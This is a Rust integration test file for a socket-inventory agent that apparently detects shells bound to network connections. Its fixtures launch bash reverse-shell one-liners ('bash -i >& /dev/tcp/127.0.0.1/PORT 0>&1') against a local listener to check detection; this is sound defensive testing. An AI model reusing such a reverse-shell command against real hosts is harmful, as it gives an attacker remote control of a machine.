//! `agent --interval ... --output FILE`: a full snapshot first, then opened/closed
//! deltas stamped with host name and boot id; with and without the proc connector.

mod agent_support;
use agent_support::*;
use shellsight::inventory::{Action, InventoryRecord};
use std::process::{Command, Stdio};
use std::time::Duration;

fn start_agent(out: &std::path::Path, interval: &str, duration: &str, cn_proc: bool) -> std::process::Child {
    let mut cmd = Command::new(BIN);
    cmd.args(["agent", "--interval", interval, "--duration", duration, "--output"]).arg(out);
    if !cn_proc {
        cmd.env("SHELLSIGHT_NO_CN_PROC", "1");
    }
    cmd.stdout(Stdio::null()).stderr(Stdio::piped()).spawn().expect("start agent")
}

fn read_records(out: &std::path::Path) -> Vec<InventoryRecord> {
    parse_lines(&std::fs::read_to_string(out).expect("agent output"))
}

fn snapshot_then_deltas(cn_proc: bool) {
    let dir = std::env::temp_dir().join(format!("ssag-interval-{}-{cn_proc}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join("inv.jsonl");
    let _ = std::fs::remove_file(&out);
    let agent = start_agent(&out, "200ms", "4", cn_proc);
    std::thread::sleep(Duration::from_millis(1000));

    let (l, port) = listener();
    let script = format!("bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 & wait");
    let g = Group::spawn(Command::new("bash").args(["-c", &script]));
    let mut conn = accept_within(&l, 10);
    shell_answers(&mut conn, "echo up-$((1+1))\n", "up-2");
    let shell = wait_child(g.pid(), "bash", 5);
    std::thread::sleep(Duration::from_millis(800));
    drop(g); // kill the shell: its socket closes
    drop(conn);

    let res = agent.wait_with_output().unwrap();
    assert!(res.status.success(), "agent: {}", String::from_utf8_lossy(&res.stderr));
    let recs = read_records(&out);
    let boot_id = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
    assert!(recs.iter().all(|r| r.host.boot_id == boot_id.trim() && !r.host.name.is_empty()));
    // Snapshot lines come first, then only deltas.
    let first_delta = recs.iter().position(|r| r.event.action != Action::Snapshot).expect("some deltas");
    assert!(recs[first_delta..].iter().all(|r| r.event.action != Action::Snapshot));
    let is_shell = |r: &&InventoryRecord| {
        r.destination.port == port && r.process.as_ref().is_some_and(|p| p.pid == shell && p.name == "bash")
    };
    let opened: Vec<_> = recs.iter().filter(|r| r.event.action == Action::Opened).filter(is_shell).collect();
    let closed: Vec<_> = recs.iter().filter(|r| r.event.action == Action::Closed).filter(is_shell).collect();
    assert_eq!(opened.len(), 1, "one opened record for the shell's socket");
    assert_eq!(closed.len(), 1, "one closed record for the shell's socket");
    assert_eq!(opened[0].socket.inode, closed[0].socket.inode);
    assert!(opened[0].process.as_ref().unwrap().std_sockets.all());
    assert!(closed[0].observed_ns > opened[0].observed_ns);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn snapshot_then_deltas_polling_only() {
    snapshot_then_deltas(false);
}

#[test]
fn snapshot_then_deltas_with_proc_connector() {
    if !privileged() {
        return;
    }
    snapshot_then_deltas(true);
}

/// With a 10 s interval and a 3 s run, no periodic refresh happens after the first
/// snapshot: only the proc connector's exec event can report this short-lived shell.
#[test]
fn proc_connector_catches_exec_between_refreshes() {
    if !privileged() {
        return;
    }
    let dir = std::env::temp_dir().join(format!("ssag-exec-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join("inv.jsonl");
    let _ = std::fs::remove_file(&out);
    let agent = start_agent(&out, "10s", "3", true);
    std::thread::sleep(Duration::from_millis(1000));
    let (l, port) = listener();
    let script = format!("bash -c 'sleep 0.7' >& /dev/tcp/127.0.0.1/{port} 0>&1 & wait");
    let g = Group::spawn(Command::new("bash").args(["-c", &script]));
    let _conn = accept_within(&l, 10);
    let res = agent.wait_with_output().unwrap();
    drop(g);
    let stderr = String::from_utf8_lossy(&res.stderr);
    assert!(res.status.success(), "agent: {stderr}");
    assert!(!stderr.contains("proc connector unavailable"), "{stderr}");
    let recs = read_records(&out);
    let hit = recs
        .iter()
        .find(|r| r.event.action == Action::Opened && r.destination.port == port && r.process.is_some())
        .unwrap_or_else(|| panic!("exec event did not trigger a refresh: {} records", recs.len()));
    let p = hit.process.as_ref().unwrap();
    assert!(p.std_sockets.all());
    assert!(p.ancestors.iter().any(|a| a.pid == std::process::id() as i32));
    let _ = std::fs::remove_dir_all(&dir);
}

/// A process swaps one connection for another under the same fd number, so its fd
/// count never changes: the incremental refresh must still attribute the new socket
/// (the unexplained inode sends it back to that namespace's fd tables).
#[test]
fn socket_swapped_under_same_fd_is_attributed() {
    let dir = std::env::temp_dir().join(format!("ssag-swap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let out = dir.join("inv.jsonl");
    let _ = std::fs::remove_file(&out);
    let (l, port) = listener();
    let code = format!(
        "import socket,os,time\n\
         a=socket.create_connection((\"127.0.0.1\",{port}))\n\
         time.sleep(1.5)\n\
         b=socket.create_connection((\"127.0.0.1\",{port}))\n\
         os.dup2(b.fileno(),a.fileno()); b.close()\n\
         time.sleep(30)\n"
    );
    let g = Group::spawn(Command::new("python3").args(["-c", &code]));
    let _first = accept_within(&l, 10);
    let agent = start_agent(&out, "250ms", "3.5", false);
    let _second = accept_within(&l, 10);
    let res = agent.wait_with_output().unwrap();
    assert!(res.status.success(), "agent: {}", String::from_utf8_lossy(&res.stderr));
    let recs = read_records(&out);
    let mine = |r: &&InventoryRecord| {
        r.destination.port == port && r.process.as_ref().is_some_and(|p| p.pid == g.pid())
    };
    let snap: Vec<_> = recs.iter().filter(|r| r.event.action == Action::Snapshot).filter(mine).collect();
    let opened: Vec<_> = recs.iter().filter(|r| r.event.action == Action::Opened).filter(mine).collect();
    let closed: Vec<_> = recs.iter().filter(|r| r.event.action == Action::Closed).filter(mine).collect();
    assert_eq!(snap.len(), 1, "first connection in the snapshot");
    assert_eq!(opened.len(), 1, "second connection opened: {recs:?}");
    assert_eq!(closed.len(), 1, "first connection closed");
    assert_eq!(closed[0].socket.inode, snap[0].socket.inode);
    assert_ne!(opened[0].socket.inode, snap[0].socket.inode);
    assert_eq!(opened[0].socket.fds, snap[0].socket.fds, "same fd number");
    let _ = std::fs::remove_dir_all(&dir);
}
